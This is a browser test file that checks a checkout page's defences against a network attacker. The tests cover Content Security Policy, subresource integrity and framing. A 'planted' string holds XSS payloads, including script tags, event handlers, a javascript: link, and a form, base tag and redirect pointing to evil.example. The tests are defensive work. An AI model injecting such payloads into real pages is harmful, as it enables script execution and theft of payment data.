// The checkout page in a real browser, after an attacker on the network has injected something into it.
import assert from 'node:assert/strict'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { closePages, openBrowser } from '../support/browser/browser.ts'
import { openWorld, type World } from '../support/world/world.ts'

let world: World
let browser: Browser
beforeAll(async () => {
  ;[world, browser] = await Promise.all([openWorld({ role: 'api' }), openBrowser()])
})
afterAll(async () => {
  await closePages(browser)
  await world?.close()
})

/** A page on which responses from matching addresses are changed in transit. */
async function changed(where: RegExp, change: (text: string) => string): Promise<Page> {
  const page = await (await browser.newContext({ locale: 'en-GB' })).newPage()
  await page.route(where, async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: change(await response.text()) })
  })
  return page
}

const payButton = (page: Page) => page.locator('button:enabled', { hasText: /^Pay/ })

const planted = [
  '<script>document.title = "owned"</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<script nonce="AAAAAAAAAAAAAAAAAAAAAAAA">document.title = "owned"</script>',
  '<img src="x" onerror="document.title = \'owned\'">',
  '<svg onload="document.title = \'owned\'"></svg>',
  '<a id="bait" href="javascript:document.title = \'owned\'">bait</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<form id="theft" action="https://evil.example/" method="post"><button>x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="600;url=https://evil.example/">',
].join('')

test('injected content on the checkout page runs nothing, loads nothing and sends nothing [S-42]', async () => {
  const { link } = await world.createOrder()
  const page = await changed(/\/api\/v1\/payment\/[^/]*$/, (text) =>
    text.replace('</body>', `${planted}</body>`),
  )
  const requests: string[] = []
  const failed: string[] = []
  page.on('request', (request) => requests.push(request.url()))
  page.on('requestfailed', (request) => failed.push(request.url()))
  const refused: string[] = []
  page.on('console', (message) => {
    if (/Content Security Policy/.test(message.text())) refused.push(message.text())
  })
  await page.goto(link)
  await page.getByRole('heading', { level: 1 }).waitFor()
  await page.evaluate(() => {
    document.getElementById('bait')?.click()
    ;(document.getElementById('theft') as HTMLFormElement | null)?.submit()
  })
  // Three scripts, two handlers, a javascript: URL, a frame, a base and a form.
  await expect.poll(() => refused.length).toBeGreaterThanOrEqual(9)
  assert.doesNotMatch(await page.title(), /owned/)
  // The browser reports the requests that it blocked as failed.
  expect(requests.filter((url) => url.includes('evil.example') && !failed.includes(url))).toEqual([])
  assert.equal(new URL(page.url()).origin, new URL(world.url).origin)
  await page.context().close()
})

test('a checkout script with one extra space is not run [S-43]', async () => {
  const { link } = await world.createOrder()
  const page = await changed(/\/assets\/checkout-.*\.js$/, (text) => `${text} `)
  const messages: string[] = []
  page.on('console', (message) => messages.push(message.text()))
  await page.goto(link)
  await expect.poll(() => messages.join('\n')).toMatch(/integrity/i)
  assert.equal(await payButton(page).count(), 0)
  await page.context().close()
})

test('control: the unchanged checkout script runs [S-43]', async () => {
  const { link } = await world.createOrder()
  const page = await changed(/\/assets\/checkout-.*\.js$/, (text) => text)
  await page.goto(link)
  await payButton(page).waitFor()
  await page.context().close()
})

test('a page that frames the checkout shows nothing of it [S-48]', async () => {
  const { link } = await world.createOrder()
  const page = await (await browser.newContext()).newPage()
  await page.route('https://evil.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${link}"></iframe>` }),
  )
  await page.goto('https://evil.example/')
  const frame = page.frames().find((each) => each !== page.mainFrame())
  assert.ok(frame)
  assert.equal(await frame.locator('button').count(), 0)
  await page.context().close()
})
